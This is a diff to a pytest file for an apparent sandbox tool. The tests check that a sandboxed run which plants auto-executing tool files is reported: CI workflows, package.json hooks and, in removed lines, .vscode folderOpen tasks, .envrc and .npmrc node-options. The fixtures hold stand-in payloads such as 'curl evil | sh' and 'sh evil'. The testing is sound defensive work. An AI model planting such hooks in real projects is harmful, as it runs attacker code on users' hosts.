@@ -1,7 +1,7 @@
-"""Files the host's tools run later, outside git (.vscode/, .idea/, .devcontainer/,
-.github/workflows/, .gitlab-ci.yml, .envrc, .husky/, .pre-commit-config.yaml, the
-scripts of a package.json): a run that created or changed one is reported, one line
-each, and in the audit log (fs.exec); the node preset makes them read-only."""
+"""Files the host's tools run when you run them, outside git (.github/workflows/,
+.gitlab-ci.yml, the scripts and hook keys of a package.json): a run that created or
+changed one is reported, one line each, and in the audit log (fs.exec). What host
+programs obey unasked is held instead (test_held_files.py)."""
 
 from __future__ import annotations
 
@@ -16,11 +16,9 @@ from tests.escape.conftest import assert_contained, describe, run_py
 pytestmark = pytest.mark.sandbox
 
 PLANT = """set -e
-mkdir -p .vscode .github/workflows sub/.devcontainer
-printf '{"tasks":[{"label":"x","command":"curl evil|sh","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json
+mkdir -p .github/workflows
 printf 'on: push\\n' > .github/workflows/ci.yml
-printf '{"postCreateCommand":"sh evil"}' > sub/.devcontainer/devcontainer.json
-printf 'curl evil | sh\\n' > .envrc
+printf 'x: 1\\n' > .gitlab-ci.yml
 sed -i 's/"test": "true"/"test": "true", "prepare": "sh evil"/' package.json
 sed -i 's/"1.0.0"/"1.0.1"/' other/package.json
 echo TRIED planted
@@ -46,77 +44,18 @@ def test_created_and_changed_tools_files_are_reported(
         for ln in lines
     }
     assert reported == {
-        "created .vscode",
         "created .github/workflows",
-        "created sub/.devcontainer",
-        "created .envrc",
-        "changed the scripts of package.json",
+        "created .gitlab-ci.yml",
+        "changed the scripts or hook keys of package.json",
     }, describe(r)
     records = [json.loads(x) for x in (workdir / "audit.jsonl").read_text().splitlines()]
-    assert len([x for x in records if x["layer"] == "fs.exec"]) == 5
+    assert len([x for x in records if x["layer"] == "fs.exec"]) == 3
     # a plain second run changes nothing and says nothing
     r2 = boxy.sh("true")
     assert "tools' files" not in r2.stderr.decode(), describe(r2)
 
 
-def test_node_preset_makes_them_read_only(boxy: Boxy, user: User, workdir: Path) -> None:
-    (workdir / ".vscode").mkdir()
-    (workdir / ".vscode/settings.json").write_text("{}\n")
-    (workdir / ".envrc").write_text("export X=1\n")
-    user.chown(workdir)
-    r = boxy.run(
-        "--profile",
-        "node",
-        "--net",
-        "none",
-        cmd=["sh", "-c", "echo '{}' > .vscode/tasks.json; echo evil >> .envrc; echo TRIED done"],
-    )
-    assert b"TRIED done" in r.stdout, describe(r)
-    assert "Read-only file system" in r.stderr.decode(), describe(r)
-    assert not (workdir / ".vscode/tasks.json").exists()
-    assert (workdir / ".envrc").read_text() == "export X=1\n"
-
-
-# §4: a tool's own config that runs the payload's code on the user's host `npm test`
-HOOK = "console.log('HOOK ran on the host')"
-NODE_OPTIONS = "node-options=--require=./node_modules/.cache/h.js\n"
-PLANT_NPMRC = f"""set -e
-mkdir -p node_modules/.cache
-printf "{HOOK}" > node_modules/.cache/h.js
-printf '{NODE_OPTIONS}' > .npmrc
-echo TRIED planted
-"""
-
-
-def test_a_planted_npmrc_is_named_and_really_runs_on_the_host(
-    boxy: Boxy, user: User, workdir: Path
-) -> None:
-    (workdir / "package.json").write_text(
-        json.dumps({"name": "p", "version": "1.0.0", "scripts": {"test": "node -e 0"}}) + "\n"
-    )
-    user.chown(workdir)
-    r = boxy.sh(PLANT_NPMRC)
-    assert r.returncode == 0 and b"TRIED planted" in r.stdout, describe(r)
-    assert (
-        f"boxyctl: tools' files: created {workdir}/.npmrc (npm runs or installs what "
-        "node-options says): review it before your tools run it"
-    ) in r.stderr.decode(), describe(r)
-    # the control: the host's own npm, as the user, with no network (offline, a loopback
-    # registry nobody listens on), runs the planted module before the test script
-    host = user.run(
-        ["npm", "test", "--silent"],
-        cwd=workdir,
-        timeout=60,
-        extra_env={
-            "npm_config_offline": "true",
-            "npm_config_registry": "http://127.0.0.1:9/",
-            "npm_config_update_notifier": "false",
-            "npm_config_cache": str(workdir / ".npm-cache"),
-        },
-    )
-    assert host.returncode == 0 and b"HOOK ran on the host" in host.stdout, describe(host)
-
-
+# §4: a tool's own config, under the install presets too (held in every run)
 NODE_WRITES = """
 for name in (".npmrc", ".yarnrc", ".yarnrc.yml", ".pnpmfile.cjs", ".venv/pip.conf"):
     try:
